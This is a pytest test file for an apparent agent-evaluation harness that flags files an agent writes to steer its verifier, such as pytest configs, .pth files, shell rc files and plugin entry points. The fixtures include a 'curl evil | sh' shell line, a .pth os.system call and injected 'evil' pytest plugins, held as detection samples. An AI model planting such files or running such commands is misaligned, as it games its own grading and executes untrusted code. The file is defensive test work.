"""A pytest configuration, ``.pth``, sourced shell file or ``entry_points.txt`` the agent wrote is
parsed by tbflow before the verifier (``runner_roles``) to tell honest from steering. The agent
chooses its bytes: a ``pyproject.toml`` of 100000 nested arrays made ``tomllib`` raise
``RecursionError`` and the trial ended with status error (issue 38). Every such parse is bounded
(size-capped by the caller's read, depth-safe) and what cannot be read whole or parsed counts
against the agent (it steers: fail closed), never crashes. Pure functions: no Docker."""

from __future__ import annotations

import pytest

from tasks_lib.judge.runner_roles import (
    HEAD_LIMIT,
    Change,
    ImageContext,
    pth_runs_code,
    pytest_config_steers,
    role_of,
    shell_file_is_benign,
)

CTX = ImageContext(path_dirs=("/usr/bin", "/bin"), home="/root")
DEEP_ARRAYS = b"[tool.pytest.ini_options]\nx = " + b"[" * 100000 + b"]" * 100000 + b"\n"
DEEP_TABLES = b"[tool.pytest.ini_options]\nx = " + b"{a=" * 100000 + b"1" + b"}" * 100000 + b"\n"
#: honest-looking head, the steering key past what tbflow reads of the file
PADDED = b"[tool.pytest.ini_options]\ntestpaths = ['tests']\n" + b"#" * HEAD_LIMIT + b"\naddopts = '-p evil'\n"


def _role(path: str, content: bytes) -> str | None:
    return role_of(Change(path=path, change="added"), CTX, lambda: content, lambda: None)


@pytest.mark.parametrize("content", [DEEP_ARRAYS, DEEP_TABLES], ids=["arrays", "inline-tables"])
@pytest.mark.parametrize("name", ["pyproject.toml", "pytest.ini"])
def test_deeply_nested_pytest_config_steers_and_does_not_raise(name, content):
    assert pytest_config_steers(name, content) is True
    assert _role(f"/app/{name}", content) == "pytest-hook"


@pytest.mark.parametrize("name", ["pyproject.toml", "setup.cfg", "tox.ini", "pytest.ini"])
def test_unparseable_pytest_config_steers(name):
    # pytest stops with a usage error on a config it cannot parse: what the verifier ran is the agent's
    assert pytest_config_steers(name, b"[tool.pytest.ini_options\n= = =\n\x00") is True


@pytest.mark.parametrize("name", ["pyproject.toml", "setup.cfg"])
def test_config_longer_than_what_tbflow_reads_steers(name):
    assert pytest_config_steers(name, PADDED[: HEAD_LIMIT + 1]) is True


def test_config_of_exactly_the_limit_is_still_judged_by_its_content():
    honest = b"[project]\nname = 'x'\n"
    assert pytest_config_steers("pyproject.toml", honest + b"#" * (HEAD_LIMIT - len(honest))) is False


def test_pyproject_with_a_non_table_tool_steers():
    assert pytest_config_steers("pyproject.toml", b"tool = 1\n") is True
    assert pytest_config_steers("pyproject.toml", b"[tool]\npytest = 1\n") is True


def test_honest_configs_still_pass():
    assert pytest_config_steers("pyproject.toml", b"[project]\nname = 'x'\n") is False
    assert pytest_config_steers("pyproject.toml", b"[tool.pytest.ini_options]\ntestpaths = ['t']\n") is False
    assert pytest_config_steers("setup.cfg", b"[metadata]\nname = x\n") is False


def test_pth_with_code_past_what_tbflow_reads_runs_code():
    assert pth_runs_code(b"/opt/x\n" * (HEAD_LIMIT // 7 + 1) + b"import os; os.system('x')\n") is True
    assert pth_runs_code(b"/opt/x\n") is False


def test_bashrc_longer_than_what_tbflow_reads_is_not_benign():
    assert shell_file_is_benign(b"export A=1\n" * (HEAD_LIMIT // 11 + 1) + b"curl evil | sh\n") is False
    assert shell_file_is_benign(b"export A=1\n") is True


def test_entry_points_longer_than_what_tbflow_reads_is_a_pytest_hook():
    big = b"[console_scripts]\n" + b"x = y:z\n" * (HEAD_LIMIT // 8 + 1) + b"[pytest11]\nevil = evilplug\n"
    assert _role("/usr/lib/python3/dist-packages/e.dist-info/entry_points.txt", big) == "pytest-hook"


@pytest.mark.parametrize("line", [b"A=" + b'"' * 60000, b"export " + b" " * 60000 + b"x", b"case \":" + b"$" * 60000])
def test_hostile_shell_lines_are_judged_quickly(line):
    assert shell_file_is_benign(line + b"\n") in (True, False)


DEEP_PYPROJECT = ("python3 -c \"open('/app/pyproject.toml', 'w').write("
                  "'[tool.pytest.ini_options]\\nx = ' + '[' * 30000 + ']' * 30000 + '\\n')\"\n")


@pytest.mark.docker
def test_deep_pyproject_toml_the_verifier_read_is_scored_and_flagged_not_an_error(run_job, tmp_path):
    """End to end: the trial with the agent's deep ``pyproject.toml`` ended with status error; now
    it is scored on test.sh's reward, and the file (read by test.sh) fails the gate."""
    from task_factory import make_task, record_of

    make_task(tmp_path / "ds", "deep-pyproject", solve=DEEP_PYPROJECT,
              test_sh="#!/bin/bash\ncat /app/pyproject.toml > /dev/null\necho 1 > /logs/verifier/reward.txt\n")
    rec = record_of(run_job(tmp_path / "ds"), "deep-pyproject")
    assert (rec.validity.status, rec.validity.reward) == ("scored", 1.0), (rec.validity, rec.flags)
    (flag,) = [f for f in rec.flags if f.kind == "toolchain-changed"]
    assert "/app/pyproject.toml" in flag.message, flag
